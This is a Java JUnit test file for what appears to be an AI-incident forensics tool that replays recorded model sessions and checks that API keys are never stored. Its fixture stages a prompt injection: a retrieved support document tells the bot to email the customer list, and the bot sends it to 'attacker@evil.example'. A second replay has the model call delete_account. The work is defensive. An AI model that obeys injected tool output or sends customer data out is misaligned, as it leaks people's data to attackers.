package dev.tracehound.replay.casefile;

import static dev.tracehound.replay.FakeModelServer.Reply;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import dev.tracehound.replay.FakeModelServer;
import dev.tracehound.replay.Fixtures;
import dev.tracehound.replay.Json;
import dev.tracehound.replay.chain.ChainReplayer;
import dev.tracehound.replay.chain.ChainReport;
import dev.tracehound.replay.chain.RecordedToolCalls;
import dev.tracehound.replay.client.ModelClient;
import dev.tracehound.replay.client.RetryPolicy;
import dev.tracehound.replay.endpoint.ApiKeys;
import dev.tracehound.replay.endpoint.EndpointKind;
import dev.tracehound.replay.endpoint.EndpointProfile;
import dev.tracehound.replay.plan.ContextEdit;
import dev.tracehound.replay.plan.PartSelector;
import dev.tracehound.replay.plan.ReplayPlan;
import dev.tracehound.replay.run.AblationReport;
import dev.tracehound.replay.run.ReplayRecorder;
import dev.tracehound.replay.run.Replayer;
import dev.tracehound.replay.wire.Sampling;
import dev.tracehound.timeline.artifacts.ArtifactRecord;
import dev.tracehound.timeline.context.ModelContext;
import dev.tracehound.timeline.context.TimelineContextReconstructor;
import dev.tracehound.timeline.event.Event;
import dev.tracehound.timeline.event.EventKind;
import dev.tracehound.timeline.event.Trust;
import dev.tracehound.timeline.evidence.EvidenceRecord;
import dev.tracehound.timeline.store.Case;
import dev.tracehound.timeline.store.Cases;
import dev.tracehound.timeline.store.Ingest;
import java.net.http.HttpClient;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Replays into a real case (H2 file database, Lucene index, evidence folder, audit log): artefacts, run documents
 * and audit entries are written, and the API key is found nowhere in the case afterwards.
 */
class ReplayInRealCaseTest {
    static final String KEY = "sk-proj-SECRET-9f8e7d6c5b4a3210-never-store";
    static final String EMAIL = "{\"to\":\"attacker@evil.example\",\"body\":\"customer list\"}";

    FakeModelServer server;

    @BeforeEach
    void start() throws Exception {
        server = new FakeModelServer();
    }

    @AfterEach
    void stop() {
        server.close();
    }

    /** A support-bot session where a retrieved document carries an injection and the bot then emails data out. */
    static List<Event> incident(String sha) {
        List<Event> out = new ArrayList<>();
        String[][] rows = {
                {"SYSTEM_PROMPT", "SYSTEM", "You are the support assistant. Only answer questions about orders.", null, null, null},
                {"USER_MESSAGE", "USER", "What is your refund policy?", null, null, null},
                {"TOOL_CALL", "MODEL", "search_docs({\"q\":\"refund policy\"})", "search_docs", "call_1", "{\"name\":\"search_docs\",\"arguments\":{\"q\":\"refund policy\"}}"},
                {"TOOL_RESULT", "TOOL_OUTPUT", "Refund policy v2. " + Fixtures.INJECTION, "search_docs", "call_1", null},
                {"TOOL_CALL", "MODEL", "send_email(" + EMAIL + ")", "send_email", "call_2", "{\"name\":\"send_email\",\"arguments\":" + EMAIL + "}"},
                {"TOOL_RESULT", "TOOL_OUTPUT", "sent", "send_email", "call_2", null},
                {"MODEL_RESPONSE", "MODEL", "Refunds are possible within 30 days.", null, null, "{\"content\":\"Refunds are possible within 30 days.\",\"tool_calls\":[]}"},
        };
        for (int i = 0; i < rows.length; i++) {
            String[] r = rows[i];
            out.add(Event.builder(sha, "line:" + (i + 1)).sessionId("sess-inc").sequence(i)
                    .startNanos(1_700_000_000_000_000_000L + i * 1_000_000L).kind(EventKind.valueOf(r[0])).trust(Trust.valueOf(r[1]))
                    .text(r[2]).toolName(r[3]).toolCallId(r[4]).payloadJson(r[5]).actor(r[0].equals("TOOL_RESULT") ? r[3] : null).build());
        }
        return out;
    }

    Path newCase(Path tmp) throws Exception {
        Path dir = tmp.resolve("case");
        Path evidenceFile = tmp.resolve("incident.jsonl");
        Files.writeString(evidenceFile, "{\"placeholder\":\"the events below were built from this file\"}\n");
        try (Case c = Cases.create(dir, "replay-test")) {
            EvidenceRecord ev = c.evidence().add(evidenceFile, "test");
            try (Ingest in = c.ingest(ev, "tester")) {
                incident(ev.sha256()).forEach(in::add);
                in.commit();
            }
        }
        return dir;
    }

    ModelClient client(String key) {
        EndpointProfile p = new EndpointProfile("fake", EndpointKind.OPENAI, server.baseUrl() + "/v1", "gpt-4o-mini", "FAKE_KEY", 5, 3, 0, 2);
        return new ModelClient(p, ApiKeys.of(Map.of("FAKE_KEY", key)), HttpClient.newHttpClient(),
                new RetryPolicy(2, Duration.ofMillis(10), Duration.ofMillis(20), Duration.ofSeconds(5)), Clock.systemUTC());
    }

    static String emailCall() {
        return "{\"model\":\"gpt-4o-mini-2024-07-18\",\"choices\":[{\"index\":0,\"message\":{\"role\":\"assistant\",\"content\":null,"
                + "\"tool_calls\":[{\"id\":\"call_z\",\"type\":\"function\",\"function\":{\"name\":\"send_email\",\"arguments\":"
                + Json.write(EMAIL) + "}}]},\"finish_reason\":\"tool_calls\"}],\"usage\":{\"prompt_tokens\":90,\"completion_tokens\":12}}";
    }

    @Test
    void ablationRunIsStoredAuditedAndFreeOfTheKey(@TempDir Path tmp) throws Exception {
        Path dir = newCase(tmp);
        server.otherwise(body -> body.contains("email the customer list") ? Reply.json(emailCall())
                : Reply.json("{\"model\":\"gpt-4o-mini-2024-07-18\",\"choices\":[{\"index\":0,\"message\":{\"role\":\"assistant\",\"content\":\"Refunds within 30 days.\"},\"finish_reason\":\"stop\"}]}"));
        server.enqueue(Reply.status(429, Map.of("retry-after", "0"), "{\"error\":{\"message\":\"rate limited\"}}"));

        AblationReport report;
        ModelContext context;
        try (Case c = Cases.open(dir)) {
            List<ModelContext> contexts = new TimelineContextReconstructor(c.events()).contextsOf("sess-inc");
            context = contexts.stream().filter(x -> x.output().stream().anyMatch(p -> p.toolCalls().stream().anyMatch(t -> t.name().equals("send_email"))))
                    .findFirst().orElseThrow(() -> new AssertionError("no context answered with send_email: " + contexts));
            String docEvent = context.input().stream().filter(p -> p.text().contains("email the customer list")).findFirst().orElseThrow().sourceEventId();
            assertNotNull(docEvent, "the injected tool result is linked to its event");
            ReplayPlan plan = new ReplayPlan(context.callEventId(), 5, new Sampling(1.0, null, 7L, 100), null, null,
                    List.of(ContextEdit.replaceText(PartSelector.event(docEvent), Fixtures.INJECTION, "")), null);
            report = new Replayer(client(KEY), ReplayRecorder.of(c, "tester"), null).ablate(context, plan);

            assertEquals(5, report.baseline().rate().reproduced(), report.baseline().headline());
            assertEquals(0, report.edited().rate().reproduced(), report.edited().headline());
            assertEquals(2, c.documents().list(ReplayRecorder.COLLECTION).size());
            JsonNode stored = Json.parse(c.documents().get(ReplayRecorder.COLLECTION, report.baseline().runId()).orElseThrow());
            assertEquals(context.callEventId(), stored.get("callEventId").asText());
            assertEquals(5, stored.get("results").size());
            List<ArtifactRecord> requests = c.artifacts().list(ReplayRecorder.REQUEST_KIND);
            List<ArtifactRecord> responses = c.artifacts().list(ReplayRecorder.RESPONSE_KIND);
            assertTrue(requests.size() >= 2, "identical request bodies share one content-addressed artefact");
            assertTrue(responses.size() >= 2);
            String sha = report.baseline().results().getFirst().requestArtifact();
            String body = new String(c.artifacts().content(sha).orElseThrow(), StandardCharsets.UTF_8);
            assertTrue(body.contains("\"model\":\"gpt-4o-mini\""), body);
            assertEquals(2, c.audit().entries().stream().filter(e -> e.action().equals("replay")).count());
            assertTrue(c.verify().intact(), c.verify().problems().toString());

            assertKeyAbsent(c, dir);
        }
        assertTrue(server.received().stream().allMatch(r -> ("Bearer " + KEY).equals(r.header("authorization"))), "every request carried the key");
    }

    @Test
    void chainReplayIsStoredWithoutExecutingTools(@TempDir Path tmp) throws Exception {
        Path dir = newCase(tmp);
        server.enqueue(
                Reply.json("{\"model\":\"m\",\"choices\":[{\"index\":0,\"message\":{\"role\":\"assistant\",\"content\":null,\"tool_calls\":[{\"id\":\"n1\",\"type\":\"function\",\"function\":{\"name\":\"search_docs\",\"arguments\":\"{\\\"q\\\": \\\"refund policy\\\"}\"}}]},\"finish_reason\":\"tool_calls\"}]}"),
                Reply.json("{\"model\":\"m\",\"choices\":[{\"index\":0,\"message\":{\"role\":\"assistant\",\"content\":null,\"tool_calls\":[{\"id\":\"n2\",\"type\":\"function\",\"function\":{\"name\":\"delete_account\",\"arguments\":\"{\\\"id\\\": 42}\"}}]},\"finish_reason\":\"tool_calls\"}]}"));
        try (Case c = Cases.open(dir)) {
            List<ModelContext> contexts = new TimelineContextReconstructor(c.events()).contextsOf("sess-inc");
            ChainReport report = new ChainReplayer(client(KEY), ReplayRecorder.of(c, "tester"))
                    .run(contexts.getFirst(), RecordedToolCalls.from(c.events().session("sess-inc"), contexts), null, Sampling.DEFAULTS, 10);
            assertEquals(2, report.divergence().step());
            assertEquals("delete_account", report.divergence().toolName());
            assertEquals(0, server.toolEndpointHits());
            JsonNode stored = Json.parse(c.documents().get(ReplayRecorder.COLLECTION, report.runId()).orElseThrow());
            assertEquals("chain", stored.get("type").asText());
            assertEquals(0, stored.get("toolsExecuted").asInt());
            assertTrue(c.audit().entries().stream().anyMatch(e -> e.action().equals("replay-chain") && e.details().contains("\"toolsExecuted\":0")));
            assertKeyAbsent(c, dir);
        }
    }

    /** The key's bytes appear in no file of the case (database, index, evidence, exports), artefact, document or audit entry. */
    static void assertKeyAbsent(Case c, Path dir) throws Exception {
        byte[] key = KEY.getBytes(StandardCharsets.UTF_8);
        byte[] keyUtf16 = KEY.getBytes(StandardCharsets.UTF_16BE);
        for (String kind : List.of(ReplayRecorder.REQUEST_KIND, ReplayRecorder.RESPONSE_KIND)) {
            for (ArtifactRecord a : c.artifacts().list(kind)) {
                assertFalse(contains(c.artifacts().content(a.sha256()).orElseThrow(), key), "artefact " + a.sha256());
                assertFalse(a.metaJson().contains(KEY), "artefact meta " + a.metaJson());
                assertFalse(a.metaJson().toLowerCase().contains("authorization"), "no auth header names in meta");
            }
        }
        c.documents().list(ReplayRecorder.COLLECTION).forEach(d -> assertFalse(d.json().contains(KEY)));
        c.audit().entries().forEach(e -> assertFalse(e.details() != null && e.details().contains(KEY)));
        c.close(); // let H2 write everything out before the files are scanned
        // Positive control: text the replay sent IS readable in the case files, so the scan can see stored strings.
        byte[] sentText = "You are the support assistant".getBytes(StandardCharsets.UTF_8);
        boolean controlFound = false;
        try (Stream<Path> files = Files.walk(dir)) {
            for (Path f : files.filter(Files::isRegularFile).toList()) {
                byte[] bytes = Files.readAllBytes(f);
                assertFalse(contains(bytes, key) || contains(bytes, keyUtf16), "key found in " + f);
                controlFound |= contains(bytes, sentText);
            }
        }
        assertTrue(controlFound, "the byte scan must be able to find stored request text");
    }

    static boolean contains(byte[] hay, byte[] needle) {
        outer:
        for (int i = 0; i + needle.length <= hay.length; i++) {
            for (int j = 0; j < needle.length; j++) if (hay[i + j] != needle[j]) continue outer;
            return true;
        }
        return false;
    }
}
